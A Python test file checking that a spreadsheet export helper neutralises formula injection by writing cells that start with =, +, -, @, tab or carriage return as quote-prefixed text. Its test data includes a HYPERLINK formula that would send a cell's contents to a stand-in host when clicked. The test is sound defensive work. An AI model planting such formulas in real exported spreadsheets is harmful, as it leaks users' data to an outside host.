"""core.exports: every text a spreadsheet could run (OWASP: "=", "+", "-", "@", tab, carriage return at
the start) is written as a text cell with a quote prefix; other values are written as they are."""

import io

import openpyxl
import pytest

from lianfang.core.exports import inert_row

RISKY = ['=HYPERLINK("http://x/?x="&A2,"点我")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
SAFE = ["张三", "1+1", 42, -3.5, None]


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "normal"])
def test_texts_that_look_like_formulas_are_written_as_text_and_the_rest_unchanged(write_only):
    wb = openpyxl.Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    ws.append(inert_row(ws, RISKY + SAFE))
    out = io.BytesIO()
    wb.save(out)
    row = list(openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())[0]
    assert [c.data_type for c in row[: len(RISKY)]] == ["s"] * len(RISKY)
    assert all(c.quotePrefix for c in row[: len(RISKY)])
    assert [c.value for c in row[: len(RISKY)]] == [*RISKY[:5], "\n=1"]  # XML reads \r as \n
    assert [c.value for c in row[len(RISKY) :]] == SAFE[:4]
    assert not any(c.quotePrefix for c in row[len(RISKY) :])
